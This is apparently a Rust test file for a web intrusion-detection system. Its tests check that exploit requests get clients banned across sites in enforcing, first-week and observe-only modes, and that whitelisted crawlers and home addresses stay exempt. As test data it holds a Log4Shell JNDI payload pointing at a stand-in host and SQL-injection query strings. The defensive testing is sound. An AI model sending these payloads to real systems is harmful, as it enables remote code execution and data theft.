use std::borrow::Cow;
use std::collections::BTreeMap;
use std::net::IpAddr;

use book::AdmitPolicy;
use config::snapshot::{Detection, OnBrokenRule};
use edge::Observer as _;
use store::Store;
use vocab::{ClientAddr, Kind};

use super::*;
use crate::rulebook::Installed;

const EXPLOIT: &str = "/?x=${jndi:ldap://evil.example/a}";
const HOST: &str = "www.example.org";

/// Our own rules on three sites below one host: one that enforces, one in its first week,
/// one that only observes.
struct House {
    directory: tempfile::TempDir,
    watch: Arc<Watch>,
}

impl House {
    fn new(sites: &[(&str, SiteVolume)]) -> Self {
        Self::with(sites, &[])
    }

    /// With these rule files instead of our own, if there are any.
    fn with(sites: &[(&str, SiteVolume)], files: &[(&str, &str)]) -> Self {
        let directory = tempfile::tempdir().unwrap();
        let rules = directory.path().join("rules");
        for (path, text) in files {
            let path = rules.join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        let detection = Detection {
            enabled: true,
            hub: None,
            hub_url: String::new(),
            items: Vec::new(),
            rules: (!files.is_empty()).then_some(rules),
            patterns: None,
            data: None,
            on_broken_rule: OnBrokenRule::Refuse,
            simulation: Vec::new(),
            crowdsec_simulation: None,
            tune: BTreeMap::new(),
            learn: std::time::Duration::ZERO,
        };
        let (store, recovered) = Store::open(directory.path()).unwrap();
        let (profiles, policy) = (respond::Profiles::default(), AdmitPolicy::default());
        let bookkeeper = Arc::new(Bookkeeper::new(store, &recovered, profiles, policy));
        let rules = crate::rulebook::load(&detection, &Installed::default()).unwrap();
        let sites: Vec<(String, SiteVolume)> = sites
            .iter()
            .map(|(name, volume)| ((*name).to_owned(), *volume))
            .collect();
        Self {
            directory,
            watch: Arc::new(Watch::new(&rules, 1, bookkeeper, &sites)),
        }
    }

    fn of_three() -> Self {
        Self::new(&[
            ("shop", SiteVolume::EnforcedFrom(Timestamp::EPOCH)),
            ("young", SiteVolume::EnforcedFrom(Timestamp::MAX)),
            ("trial", SiteVolume::ObservedOnly),
        ])
    }

    fn ask(&self, client: &str, site: &str, target: &str) {
        self.watch.http(
            0,
            &HttpEvent {
                time: now(),
                site: Cow::Borrowed(site),
                client: ClientAddr::new(client.parse().unwrap()),
                method: Cow::Borrowed("GET"),
                target: Cow::Borrowed(target),
                version: 11,
                host: Cow::Borrowed(HOST),
                status: 404,
                user_agent: Cow::Borrowed("Mozilla/5.0 (X11; Linux x86_64; rv:142.0)"),
                referer: Cow::Borrowed(""),
                body_bytes: Some(20),
                tls: true,
                request_id: 1,
                session: false,
                credentials: None,
                foreign: false,
                login: None,
            },
        );
    }

    fn break_framing(&self, client: &str) {
        self.watch.refused(
            0,
            &Refusal {
                time: now(),
                client: ClientAddr::new(client.parse().unwrap()),
                site: Cow::Borrowed(""),
                by: RefusedBy::Codec,
                rule: Cow::Borrowed("framing.cl-te"),
                status: 400,
                observed: false,
                request_id: 1,
                foreign: false,
            },
        );
    }

    fn is_banned(&self, client: &str) -> bool {
        let range = client.parse().unwrap();
        let decisions = self.watch.bookkeeper.decisions(Some(range));
        decisions.iter().any(|one| one.decision.kind == Kind::Ban)
    }
}

#[test]
fn a_site_that_only_observes_is_no_shield_for_those_that_enforce() {
    let house = House::of_three();
    let exploiter = "203.0.113.10";
    house.ask(exploiter, "trial", EXPLOIT);
    assert!(!house.is_banned(exploiter), "it only observes");
    house.ask(exploiter, "shop", EXPLOIT);
    assert!(house.is_banned(exploiter), "DENY");

    // A bucket of several: the overflow there empties nothing here.
    let injector = "203.0.113.11";
    let inject = |site, number| {
        let target = format!("/?id={number}+union+select+1");
        house.ask(injector, site, &target);
    };
    (0..4).for_each(|number| inject("shop", number));
    (4..10).for_each(|number| inject("trial", number));
    assert!(!house.is_banned(injector), "four are not five");
    inject("shop", 10);
    assert!(house.is_banned(injector), "DENY");
}

#[test]
fn a_site_in_its_first_week_takes_nothing_from_the_count_of_the_others() {
    let house = House::of_three();
    let prober = "203.0.113.12";
    let probe = |site, number| house.ask(prober, site, &format!("/nothing-{number}"));
    (0..15).for_each(|number| probe("shop", number));
    (15..40).for_each(|number| probe("young", number));
    assert!(
        !house.is_banned(prober),
        "volume is observed in the first week"
    );
    probe("shop", 40);
    assert!(house.is_banned(prober), "DENY");
    // What is no matter of numbers bars from the first day on.
    let exploiter = "203.0.113.13";
    house.ask(exploiter, "young", EXPLOIT);
    assert!(house.is_banned(exploiter), "DENY");
}

#[test]
fn what_belongs_to_no_site_bars_where_any_site_enforces_and_nowhere_else() {
    let trial = ("trial", SiteVolume::ObservedOnly);
    let shop = ("shop", SiteVolume::EnforcedFrom(Timestamp::EPOCH));
    let client = "203.0.113.14";
    for (sites, want) in [
        (&[trial][..], false),
        (&[trial, ("other", SiteVolume::ObservedOnly)], false),
        (&[trial, shop], true), // DENY
    ] {
        let house = House::new(sites);
        (0..12).for_each(|_| house.break_framing(client));
        assert_eq!(house.is_banned(client), want, "{sites:?}");
    }
}

const ATTACK: &str = "
type: trigger
name: test/attack
filter: evt.Meta.service == 'http' && evt.Meta.http_path contains 'attack'
labels:
  remediation: true
";
const NAMED: &str = "
onsuccess: next_stage
filter: evt.Overflow.Alert.GetScope() == 'Ip'
name: test/rdns
statics:
  - method: reverse_dns
    expression: evt.Overflow.Alert.Source.IP
";
const CRAWLER: &str = "
name: test/crawler
whitelist:
  reason: a crawler
  expression:
    - evt.Enriched.reverse_dns endsWith '.crawler.example.'
    - GetDecisionsCount(evt.Overflow.Alert.GetValue()) > 1000
";

/// Knows the name of one address, and takes its time.
struct Phonebook;

impl Names for Phonebook {
    fn answer(&self, query: &detect::outside::Query) -> detect::outside::Answer {
        std::thread::sleep(std::time::Duration::from_millis(20));
        let crawler: IpAddr = "203.0.113.21".parse().unwrap();
        match query {
            detect::outside::Query::Reverse(address) if *address == crawler => {
                vec!["bot.crawler.example.".into()]
            }
            _ => Vec::new(),
        }
    }
}

#[test]
fn a_postoverflow_asks_for_a_name_and_what_is_exempt_is_shown_and_not_barred() {
    let files = [
        ("scenarios/test/attack.yaml", ATTACK),
        ("postoverflows/s00-enrich/test/rdns.yaml", NAMED),
        ("postoverflows/s01-whitelist/test/crawler.yaml", CRAWLER),
    ];
    let shop = ("shop", SiteVolume::EnforcedFrom(Timestamp::EPOCH));
    let house = House::with(&[shop], &files);
    house.watch.answer_questions(Arc::new(Phonebook));
    let (crawler, attacker) = ("203.0.113.21", "203.0.113.22");
    for client in [crawler, attacker] {
        house.ask(client, "shop", "/attack");
    }
    let bookkeeper = &house.watch.bookkeeper;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while bookkeeper.alerts(10, None).len() < 2 && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    assert!(house.is_banned(attacker), "DENY");
    assert!(!house.is_banned(crawler));
    assert_eq!(bookkeeper.exempted(), 1);
    assert_eq!(house.watch.inquiries().parked, 2);
    let why = bookkeeper.why(crawler).unwrap();
    assert!(
        why.sentence.ends_with("is exempt: a crawler."),
        "{}",
        why.sentence
    );
    assert!(house.directory.path().is_dir());
}

const HOME: &str = "
name: test/home
whitelist:
  reason: our own line, whose address changes
  expression:
    - evt.Meta.source_ip in LookupHost('home.example.org')
";

/// A line at home whose name is kept up to date.
struct Home;

impl Names for Home {
    fn answer(&self, query: &detect::outside::Query) -> detect::outside::Answer {
        match query {
            detect::outside::Query::Host(name) if **name == *"home.example.org" => {
                vec!["203.0.113.31".into()]
            }
            _ => Vec::new(),
        }
    }
}

#[test]
fn whoever_comes_from_a_host_that_a_whitelist_names_is_not_barred() {
    let files = [
        ("scenarios/test/attack.yaml", ATTACK),
        ("parsers/s02-enrich/test/home.yaml", HOME),
    ];
    let shop = ("shop", SiteVolume::EnforcedFrom(Timestamp::EPOCH));
    let house = House::with(&[shop], &files);
    house.watch.answer_questions(Arc::new(Home));
    let view = house.watch.hosts.get().unwrap().view();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while view.addresses("home.example.org").is_none() {
        assert!(std::time::Instant::now() < deadline, "it is not looked up");
        std::thread::yield_now();
    }
    for client in ["203.0.113.31", "203.0.113.32"] {
        house.ask(client, "shop", "/attack");
    }
    assert!(house.is_banned("203.0.113.32"), "DENY");
    assert!(!house.is_banned("203.0.113.31"), "locked out");
}
